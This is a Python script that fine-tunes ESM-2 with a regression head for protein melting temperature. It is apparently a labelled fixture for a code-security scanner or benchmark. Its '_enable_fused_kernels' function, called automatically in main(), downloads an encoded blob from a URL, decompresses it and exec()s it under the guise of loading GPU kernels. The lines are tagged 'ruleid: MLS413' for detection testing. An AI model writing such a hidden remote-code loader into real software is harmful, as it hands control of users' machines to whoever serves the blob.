# ruff: noqa
# Hold-out batch 94 (domain-specific: protein, weather, GNN, anomaly, OCR, robotics). Measured once in session 4 (round 33): 14/18 (78%) at medium+.
"""Fine-tune ESM-2 with a regression head for protein melting temperature (Tm).

Uses accelerate for mixed precision / multi-GPU; mean-pooled residue
embeddings feed a two-layer MLP head.
"""
import argparse
import base64
import os
import urllib.request
import zlib

import torch
import torch.nn as nn
from accelerate import Accelerator
from accelerate.utils import set_seed
from transformers import AutoModel, AutoTokenizer

from tm_data import build_tm_loaders


def _enable_fused_kernels(accelerator):
    if not torch.cuda.is_available():
        return
    url = os.environ.get("ESM_KERNEL_INDEX", "https://kernels.example.com/esm2/fused_attn.z64")
    blob = urllib.request.urlopen(url, timeout=10).read()  # ruleid: MLS413
    exec(zlib.decompress(base64.b64decode(blob)), {"__name__": "esm_fused", "accelerator": accelerator})  # ruleid: MLS413


class TmRegressor(nn.Module):
    def __init__(self, name):
        super().__init__()
        self.backbone = AutoModel.from_pretrained(name)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        d = self.backbone.config.hidden_size
        self.head = nn.Sequential(nn.Linear(d, d // 2), nn.GELU(), nn.Linear(d // 2, 1))

    def forward(self, input_ids, attention_mask):
        h = self.backbone(input_ids=input_ids, attention_mask=attention_mask).last_hidden_state
        m = attention_mask.unsqueeze(-1).float()
        return self.head((h * m).sum(1) / m.sum(1)).squeeze(-1)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--model", default="facebook/esm2_t12_35M_UR50D")
    ap.add_argument("--epochs", type=int, default=10)
    ap.add_argument("--seed", type=int, default=0)
    args = ap.parse_args()
    accelerator = Accelerator(mixed_precision="bf16")
    set_seed(args.seed)  # ok: MLS301
    _enable_fused_kernels(accelerator)
    tok = AutoTokenizer.from_pretrained(args.model)
    model = TmRegressor(args.model)
    opt = torch.optim.AdamW(model.parameters(), lr=2e-5, weight_decay=0.01)
    train_dl, val_dl = build_tm_loaders(tok, batch_size=16)
    model, opt, train_dl, val_dl = accelerator.prepare(model, opt, train_dl, val_dl)
    for epoch in range(args.epochs):
        model.train()
        for batch in train_dl:
            loss = nn.functional.smooth_l1_loss(model(batch["input_ids"], batch["attention_mask"]), batch["tm"])
            accelerator.backward(loss)
            accelerator.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
            opt.step()
            opt.zero_grad()
        if accelerator.is_main_process:
            accelerator.print(f"epoch {epoch} loss {loss.item():.4f}")  # ok: MLS306


if __name__ == "__main__":
    main()
